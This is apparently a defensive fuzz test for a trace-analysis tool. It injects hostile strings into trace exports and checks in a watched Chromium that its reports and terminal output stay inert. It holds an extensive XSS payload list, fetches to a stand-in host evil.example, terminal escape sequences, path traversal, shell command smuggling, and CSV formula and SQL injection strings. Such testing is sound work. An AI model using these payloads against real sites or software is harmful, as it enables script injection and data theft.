"""Put hostile text into every field of an export; look at every page and screen that shows it.

    python benchmarks/payloads.py [--payloads 500]

Each text stands as service, span name, status message, attribute key and value, resource and scope
attribute, event name, exception type, message and stack, link state and log body of an export of
its own trace. The export goes through `tracelab investigate`, `trace` (screen and page) and the
explorer. In a real Chromium, without a network but watched, nothing may run, be asked for, open a
dialog, leave the page, or become an element that could; the screen may get no control character;
the folder holds the files that it always holds.
"""

import argparse
import contextlib
import io
import itertools
import json
import random
import re
import shutil
import sys
import tempfile
from pathlib import Path

from playwright.sync_api import sync_playwright

import tracelab as tl
from tracelab import plots
from tracelab.cli import run

AT_ONCE = 10
START = 1_700_000_000_000_000_000
ACTS = (
    "window.pwned=1",
    "fetch('http://evil.example/x')",
    "alert(1)",
    "location='http://evil.example/'",
    "document.write('<img src=http://evil.example/y>')",
)
SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea></title><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src=`x`/onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "' onmouseover={} x='",
    '" onfocus={} autofocus x="',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><a xlink:href="javascript:{}"><text>x</text></a></svg>',
    "<svg><animate onbegin={} attributeName=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    '<iframe srcdoc="<script>parent.{}</script>">',
    '<iframe src="javascript:parent.{}">',
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    '<a href="java\tscript:{}">x</a>',
    '<a href=" javascript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="http://evil.example/"><script src=x></script>{}',
    '<link rel=stylesheet href="http://evil.example/x.css">{}',
    "<style>@import 'http://evil.example/x.css';</style>{}",
    '<b style="background:url(http://evil.example/x)">{}</b>',
    "<template><script>{}</script></template>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}{}{{% endraw %}}",
    "$\\href{{javascript:{}}}{{x}}$",
    "[x](javascript:{})",
    "![x](http://evil.example/x.png){}",
    "<javascript:{}>",
    "`</code><script>{}</script>",
    "|x|</td></tr></table><script>{}</script>",
    '";{};//',
    "';{};//",
    "*/{};/*",
    "\u2028{};\u2029//",
    "\x00<script>{}</script>",
    "\ufeff<script>{}</script>",
    "\ud7ff\ue000<script>{}</script>",
)
PLAIN = (
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\x1b]52;c;aGk=\x07", "\x1bP$q\"p\x1b\\", "\x1b[2J\x1b[H", "\x9b31m", "\x9d0;t\x9c",
    "\x07\x08\x7f",
    "a\rb", "a\nb\n\nc", "a\tb", "\u202egnp.exe", "\u2066x\u2069", "\u200b\u200d",
    "e" + "\u0301" * 500,
    "../../../../tmp/evil", "/etc/passwd", "C:\\evil", "evil\x00.html", "nul", "-rf", "--help", "~",
    "=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "%s%n%x", "{0}{x!r}", "$(touch evil)", "`touch evil`",
    "; touch evil", "' OR 1=1 --", "\"}} or vector(1) #", "x: !!python/object:os.system",
    "- - -\n...",
    "{{ 7*7 }}", "#{7*7}", "\\", "\\\"", "'", "\"", "<", ">", "&", "&amp;", "%00", "%0d%0aX: y",
    "x" * 10_000, "\U0001f469\u200d\U0001f680" * 200, "\u0000", " ", "\u3000", "null", "undefined",
    "NaN", "__proto__", "constructor", "[object Object]", "true",
)  # fmt: skip
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
LOOK = """() => {
  const all = [...document.querySelectorAll('*')];
  const bad = ['IFRAME', 'OBJECT', 'EMBED', 'FORM', 'BASE', 'MARQUEE', 'TEMPLATE', 'VIDEO'];
  const aims = e => ['href', 'xlink:href', 'src'].map(name => e.getAttribute(name));
  const acts = e => [...e.attributes].some(a => a.name.startsWith('on'));
  const away = /^(\\s*j\\s*a\\s*v\\s*a|https?:|\\/\\/)/i;
  return {
    pwned: window.pwned === undefined ? null : window.pwned,
    tags: all.map(e => e.tagName).filter(tag => bad.includes(tag.toUpperCase())),
    handlers: all.filter(acts).map(e => e.tagName),
    links: all.flatMap(aims).filter(aim => aim && away.test(aim)),
  };
}"""


def payloads(many, seed=1):
    """Draw texts: each shape with some act, and texts that need none."""
    found = [shape.format(act) for act, shape in itertools.product(ACTS, SHAPES)]
    found += PLAIN
    chance = random.Random(seed)
    while len(found) < many:
        one, other = chance.sample(found[: len(ACTS) * len(SHAPES) + len(PLAIN)], 2)
        found.append(one + other)
    return [
        text.encode("utf-8", "surrogatepass").decode("utf-8", "replace") for text in found[:many]
    ]


def value(text):
    """Write an attribute value."""
    return {"stringValue": text}


def attributes(text):
    """Write attributes with hostile keys and values, under names that are shown and others."""
    names = ("http.route", "url.full", "server.address", "tenant.id", f"x {text}")
    return [{"key": name, "value": value(text)} for name in names]


def request(number, text):
    """Write one trace: a call, a server whose parent is missing, an error that is swallowed."""
    trace = f"{number + 1:032x}"
    exception = [
        {"key": f"exception.{name}", "value": value(text)}
        for name in ("type", "message", "stacktrace")
    ]

    def span(own, parent, kind, at, **more):
        return {
            "traceId": trace,
            "spanId": f"{own:016x}",
            "parentSpanId": f"{parent:016x}" if parent else "",
            "name": text,
            "kind": kind,
            "startTimeUnixNano": str(START + number * 10**9 + at * 10**6),
            "endTimeUnixNano": str(START + number * 10**9 + at * 10**6 + 50 * 10**6),
            "attributes": attributes(text),
            "traceState": text,
            **more,
        }

    failed = {
        "status": {"code": 2, "message": text},
        "events": [
            {"name": "exception", "attributes": exception, "timeUnixNano": str(START)},
            {"name": text, "attributes": attributes(text), "timeUnixNano": str(START)},
        ],
        "links": [{"traceId": trace, "spanId": f"{1:016x}", "traceState": text}],
    }
    services = {
        "a": [span(1, 0, 2, 0), span(2, 1, 3, 1)],
        "b": [span(3, 2, 2, 2, **failed), span(4, 99, 1, 3, **failed), span(5, 3, 1, 4)],
    }
    return {
        "resourceSpans": [
            {
                "resource": {
                    "attributes": [
                        {"key": "service.name", "value": value(f"{service} {text}")},
                        {"key": "host.name", "value": value(text)},
                        *attributes(text),
                    ]
                },
                "scopeSpans": [
                    {"scope": {"name": text, "version": text, "attributes": attributes(text)},
                     "spans": spans}
                ],
            }
            for service, spans in services.items()
        ]
    }  # fmt: skip


def screens(path, out, trace):
    """Run the commands; return what they printed."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        run(["investigate", str(path), "-o", str(out / "case")])
        run(["trace", str(path), trace])
        run(["trace", str(path), trace, "-o", str(out / "trace.html")])
        run(["trace", str(path), "no such trace"])
    return printed.getvalue()


def pages(path, out):
    """Write the pages that show the capture; return their paths."""
    traces = tl.read_traces(path)
    breaks = tl.find_breaks(traces)
    shown = plots.explorer(traces, breaks, error_hops=tl.find_error_hops(traces))._repr_html_()
    shown += traces._repr_html_() + tl.investigate(traces)._repr_html_()
    (out / "explorer.html").write_text(
        f"<!doctype html><meta charset='utf-8'><body>{shown}</body>", encoding="utf-8"
    )
    return [out / "case" / "report.html", out / "trace.html", out / "explorer.html"]


def visit(browser, path):
    """Open a page; return what is wrong with it."""
    context = browser.new_context(viewport={"width": 1300, "height": 1000})
    page = context.new_page()
    wrong = []
    page.on("dialog", lambda dialog: (wrong.append("dialog"), dialog.dismiss()))
    page.on("pageerror", lambda error: wrong.append(f"error: {error}"))
    page.on(
        "console",
        lambda said: wrong.append(f"console: {said.text}") if said.type == "error" else None,
    )
    page.on(
        "request",
        lambda asked: (
            None
            if asked.url.startswith(("file:", "data:", "blob:"))
            else wrong.append(f"request: {asked.url}")
        ),
    )
    page.goto(path.as_uri())
    rows = page.locator(".tracelab-explorer tbody tr")
    for number in range(min(rows.count(), 3)):
        rows.nth(number).click()
    page.mouse.move(400, 400)
    page.wait_for_timeout(300)
    seen = page.evaluate(LOOK)
    wrong += [f"{name}: {found}" for name, found in seen.items() if found]
    if page.url != path.as_uri():
        wrong.append(f"left for {page.url}")
    context.close()
    return [f"{path.name}: {each}"[:300] for each in wrong]


def unguarded(folder):
    """Write a page that shows a text as it is, which must be caught."""
    path = folder / "unguarded.html"
    path.write_text(f"<!doctype html><body>{SHAPES[8].format(ACTS[0])}</body>", encoding="utf-8")
    return path


def try_batch(browser, texts, scratch, usual):
    """Show some texts everywhere; return what is wrong."""
    shutil.rmtree(scratch, ignore_errors=True)
    scratch.mkdir()
    path = scratch / "export.jsonl"
    lines = (json.dumps(request(number, text)) for number, text in enumerate(texts))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = scratch / "out"
    out.mkdir()
    printed = screens(path, out, f"{1:032x}")
    wrong = [f"screen: {found[0]!r}" for found in CONTROL.finditer(printed)][:3]
    for page in pages(path, out):
        wrong += visit(browser, page)
    markdown = (out / "case" / "findings.md").read_text("utf-8")
    wrong += [f"markdown: {tag}" for tag in ("<script", "<img", "<iframe") if tag in markdown]
    names = {each.relative_to(scratch).as_posix() for each in scratch.rglob("*")}
    return wrong + [f"file: {name}" for name in sorted(names - usual if usual else ())], names


def main():
    """Print how many texts were shown and what was wrong."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--payloads", type=int, default=500)
    arguments = parser.parse_args()
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    texts = payloads(arguments.payloads)
    failures, usual = [], set()
    with sync_playwright() as driver, tempfile.TemporaryDirectory() as folder:
        browser = driver.chromium.launch(executable_path=program, args=["--no-sandbox"])
        if not visit(browser, unguarded(Path(folder))):
            sys.exit("a page that shows the texts as they are was not caught")
        _, usual = try_batch(browser, ["plain"] * AT_ONCE, Path(folder, "work"), set())
        for first in range(0, len(texts), AT_ONCE):
            batch = texts[first : first + AT_ONCE]
            wrong, _ = try_batch(browser, batch, Path(folder, "work"), usual)
            failures += [f"{first}: {each}" for each in wrong]
            print(f"{first + len(batch)} texts, {len(failures)} wrong", flush=True)
        browser.close()
    for each in failures[:40]:
        print("  ", each)
    sys.exit(bool(failures))


if __name__ == "__main__":
    main()
